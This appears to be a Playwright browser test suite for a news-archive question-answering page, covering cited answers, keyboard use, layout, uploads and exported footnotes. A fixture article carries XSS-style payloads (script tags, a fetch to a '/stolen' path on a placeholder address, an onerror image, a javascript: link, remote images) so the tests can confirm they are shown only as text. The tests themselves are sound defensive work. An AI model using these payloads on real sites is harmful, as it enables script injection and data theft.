"""Tests the page in a real Chromium with real archives: `dateline ingest`, then `dateline chat`."""

import html
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import CHROMIUM
from playwright.sync_api import Browser, expect
from visits import Visit, fresh_page

from ingest.sample import sample_path
from rag.export.packs import read_saved_answer
from tests.ui.page_server import ROOT, serving

QUESTION = "When did the ceasefire in Nagorno-Karabakh take effect?"
# An address that nothing answers (TEST-NET-2): a request for it is the failure looked for.
AWAY = "http://198.51.100.7"
HOSTILE = {
    "id": "hostile",
    "url": "javascript:alert(document.domain)",
    "title": f"$5$ :red[alarm] ![x]({AWAY}/t.png) <img src='{AWAY}/t2.png'><script>alert(1)",
    "source": f"**Bold** <b>wire</b> ![x]({AWAY}/s.png)",
    "published": "2021-03-04",
    "text": (
        f"<style>@import '{AWAY}/x.css';</style>\n\n"
        f"The ceasefire in Veltria took effect on 3 March 2021 at a cost of $5 to $6 :red[million] "
        f"![x]({AWAY}/q.png) <img src='{AWAY}/q2.png' onerror='alert(1)'> <b>in all</b>.\n\n"
        f"<script>fetch('{AWAY}/stolen')</script> 🕊️ [link]({AWAY}/l)"
    ),
}
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on this machine"),
]


def ingest(source: Path, archive: Path) -> Path:
    command = [sys.executable, "-m", "ui.cli", "ingest", str(source), "--archive", str(archive)]
    subprocess.run(command, cwd=ROOT, check=True, capture_output=True)
    return archive


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not sample_path().exists():
        pytest.skip("the sample archive is not there")
    return ingest(sample_path(), tmp_path_factory.mktemp("sample") / "archive")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "articles.jsonl"
    # Tags in a record are left out, so what an article shows as tags is written as text.
    paragraphs = (f"<p>{html.escape(text)}</p>" for text in HOSTILE["text"].split("\n\n"))
    source.write_text(json.dumps(HOSTILE | {"text": "".join(paragraphs)}))
    return ingest(source, folder / "archive")


@pytest.fixture
def visit(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Visit]:
    archive, threshold = request.param
    settings = {"DATELINE_ANSWER_THRESHOLD": threshold} if threshold else {}
    with (
        serving(request.getfixturevalue(archive), **settings) as (_, port),
        fresh_page(browser, viewport={"width": 1280, "height": 900}) as page,
    ):
        visit = Visit(page)
        page.goto(f"http://127.0.0.1:{port}")
        yield visit


def over(archive: str, *, threshold: str = "") -> pytest.MarkDecorator:
    """Visit an archive; with a threshold where the page is tested and not what it answers."""
    return pytest.mark.parametrize("visit", [(archive, threshold)], ids=[archive], indirect=True)


@over("sample")
def test_a_question_is_answered_and_its_quote_read_in_the_article(visit: Visit) -> None:
    page = visit.page
    visit.ask(QUESTION)
    expect(page.locator(".answer")).to_contain_text("10 November 2020")
    statement = page.locator(".statement").first
    statement.get_by_role("button", name="[1] Show the source").click()
    sentence = page.locator(".pane .sentence")
    expect(sentence).to_be_in_viewport()
    shown = statement.locator(".words").inner_text()
    assert shown == f"“{sentence.inner_text()}”"
    link = page.locator(".pane a")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    visit.require_silence()


@over("sample", threshold="0")
def test_the_citations_are_used_with_the_keyboard_alone(visit: Visit) -> None:
    page = visit.page
    page.get_by_test_id("stMainBlockContainer").get_by_role("button", name=QUESTION).press("Enter")
    marker = page.locator(".statement").get_by_role("button", name="[1] Show the source")
    marker.press("Enter")
    expect(page.get_by_role("region", name="Source 1", exact=True)).to_be_focused()
    expect(marker).to_have_attribute("aria-expanded", "true")
    closing = page.get_by_role("button", name="Close source 1")
    for _ in range(4):
        page.keyboard.press("Tab")
        if closing.evaluate("button => button.getRootNode().activeElement === button"):
            break
    expect(closing).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator(".pane")).to_be_hidden()
    expect(marker).to_be_focused()


@over("sample")
def test_a_new_answer_is_announced_in_one_short_line(visit: Visit) -> None:
    page = visit.page
    visit.ask(QUESTION)
    told = page.get_by_role("status").filter(has_text="quote")
    expect(told).to_have_text(re.compile(r"^.{5,110}\.$"))
    assert page.locator("[aria-live]:not([aria-live=off]) .answer").count() == 0
    visit.ask("What is the capital of Mongolia?")
    expect(page.get_by_role("heading", name="The archive does not say")).to_be_visible()
    expect(page.get_by_role("heading", name="Nearest, but not an answer")).to_be_visible()
    expect(page.get_by_role("status").filter(has_text="does not say")).to_have_count(1)


@over("sample", threshold="0")
def test_nothing_is_wider_than_a_narrow_screen(visit: Visit) -> None:
    page = visit.page
    page.set_viewport_size({"width": 400, "height": 800})
    visit.ask(QUESTION + " " + "x" * 200)
    visit.ask(QUESTION)
    page.locator(".marker").first.click()
    expect(page.locator(".pane .sentence")).to_be_in_viewport()
    assert page.locator(".pane").evaluate("pane => pane.getBoundingClientRect().right") <= 400
    scrolled = page.get_by_role("main")
    assert scrolled.evaluate("main => main.scrollWidth") <= 400


@over("hostile", threshold="0")
def test_an_article_can_only_ever_be_read(visit: Visit) -> None:
    page = visit.page
    question = f"When did the ceasefire in Veltria take effect, $5 :red[x] ![x]({AWAY}/u.png)?"
    visit.ask(question)
    expect(page.get_by_role("heading", name=question)).to_be_visible()
    page.locator(".marker").click()
    expect(page.locator(".pane .sentence")).to_contain_text(
        f"$5 to $6 :red[million] ![x]({AWAY}/q.png) <img"
    )
    expect(page.locator(".pane .title")).to_contain_text(HOSTILE["title"])
    expect(page.locator(".pane .title + .byline")).to_contain_text("**Bold** <b>wire</b>")
    assert page.locator(".pane .text").text_content() == HOSTILE["text"]
    for made in ("a", "b", "img", "script", "style"):
        assert page.locator(f":is(.turn, .pane) {made}").count() == 0
    visit.require_silence()


@over("sample")
def test_the_date_asked_for_comes_before_the_quote_it_stands_on(visit: Visit) -> None:
    visit.ask(QUESTION)
    shown = visit.page.locator(".answer > *").all_inner_texts()
    dated = next(place for place, part in enumerate(shown) if "10 November 2020" in part)
    assert "“" not in shown[dated]
    assert any("“" in part for part in shown[dated + 1 :])


@over("sample")
def test_a_question_that_names_dates_is_asked_again_of_all_dates(visit: Visit) -> None:
    page = visit.page
    question = "When did the ceasefire in Nagorno-Karabakh take effect in 1994?"
    visit.ask(question)
    expect(page.locator(".searched")).to_contain_text("1994-01-01 to 1994-12-31")
    visit.ask("What is the capital of Mongolia?")
    page.get_by_role("button", name=f"Search all dates for “{question}”").press("Enter")
    expect(page.get_by_text("Asked again, for all dates")).to_be_visible()
    expect(page.locator(".searched")).to_have_count(3)
    again = page.locator(".answer").nth(2)
    expect(again.locator(".searched")).not_to_contain_text("1994")
    expect(again.get_by_role("button", name="Search all dates")).to_have_count(0)


@over("sample")
def test_what_is_said_before_the_quotes_or_in_place_of_any_is_on_the_page(visit: Visit) -> None:
    visit.ask("Thanks!")
    thanks = visit.page.locator(".answer").nth(0)
    expect(thanks).to_have_text(re.compile(r"^That asks nothing of the archive\.[^.]*\.$"))
    visit.ask(
        "According to the Touchline Daily, how many people were killed in the Beirut explosion?"
    )
    lead = visit.page.locator(".answer").nth(1).locator("> :first-child")
    expect(lead).to_have_text("touchline-daily.example does not say; this is from other outlets.")
    expect(visit.page.locator(".announced").last).to_contain_text("does not say; this is from")


def test_the_sample_is_indexed_at_the_press_of_a_button(browser: Browser, tmp_path: Path) -> None:
    with serving(tmp_path / "archive") as (_, port):
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{port}")
        page.get_by_role("button", name="Index the sample archive").click()
        expect(page.get_by_placeholder("Ask the archive")).to_be_visible(timeout=180_000)
        page.close()


def test_the_page_asks_a_newer_archive_as_soon_as_it_is_served(
    browser: Browser, hostile: Path, tmp_path: Path
) -> None:
    archive = tmp_path / "archive"
    shutil.copytree(hostile, archive)
    more = tmp_path / "more.jsonl"
    more.write_text(json.dumps({"text": "The bridge at Oldham was opened on Monday."}))
    with serving(archive) as (_, port), fresh_page(browser) as page:
        page.goto(f"http://127.0.0.1:{port}")
        expect(page.get_by_text("1 article", exact=True)).to_be_visible(timeout=30_000)
        ingest(more, archive)
        Visit(page).ask("When was the bridge opened?")
        expect(page.get_by_text("2 articles", exact=True)).to_be_visible()
    assert len(list((archive / "generations").iterdir())) == 1


def test_dropped_files_are_added_with_a_report_and_can_be_asked(
    browser: Browser, hostile: Path, tmp_path: Path
) -> None:
    archive = tmp_path / "archive"
    shutil.copytree(hostile, archive)
    dropped = tmp_path / "dropped.jsonl"
    records = [{"id": "bridge", "text": "The bridge at Oldham was opened on Monday."}, {"text": ""}]
    dropped.write_text("\n".join(map(json.dumps, records)))
    with serving(archive) as (_, port), fresh_page(browser) as page:
        page.goto(f"http://127.0.0.1:{port}/archive")
        page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(dropped)
        page.get_by_role("button", name="Add these files").click()
        report = page.get_by_test_id("stCode").filter(has_text="2 records: 1 new")
        expect(report).to_contain_text("the archive holds 2 articles")
        expect(report).to_contain_text("dropped.jsonl")
        assert str(tmp_path) not in report.inner_text()
        expect(page.get_by_text("Articles 1 to 2 of 2")).to_be_visible()
        page.get_by_role("button", name="Close the report").click()
        page.get_by_role("link", name="Ask", exact=True).click()
        Visit(page).ask("When was the bridge opened?")
        expect(page.locator(".turn")).to_contain_text("The bridge at Oldham was opened on Monday")


@over("sample")
def test_an_answer_is_taken_away_as_a_file_and_as_a_footnote(visit: Visit, tmp_path: Path) -> None:
    visit.ask(QUESTION)
    visit.page.get_by_role("button", name="Take away").click()
    expect(visit.page.get_by_test_id("stCode")).to_contain_text("[1] Foreign desk")
    with visit.page.expect_download() as download:
        visit.page.get_by_role("button", name="Data to check again (JSON)").click()
    assert download.value.suggested_filename == "dateline-answer-1.json"
    download.value.save_as(tmp_path / "proof.json")
    saved = read_saved_answer((tmp_path / "proof.json").read_bytes())
    assert saved.question == QUESTION
    visit.require_silence()


@over("hostile", threshold="0")
def test_footnotes_show_the_words_of_an_article_letter_for_letter(visit: Visit) -> None:
    visit.ask("When did the ceasefire in Veltria take effect?")
    visit.page.get_by_role("button", name="Take away").click()
    code = visit.page.get_by_test_id("stCode")
    expect(code).to_contain_text("$5$ :red[alarm] ![x](http://198.51.100.7/t.png) <img src=")
    expect(code.locator("img, script, b")).to_have_count(0)
    visit.require_silence()
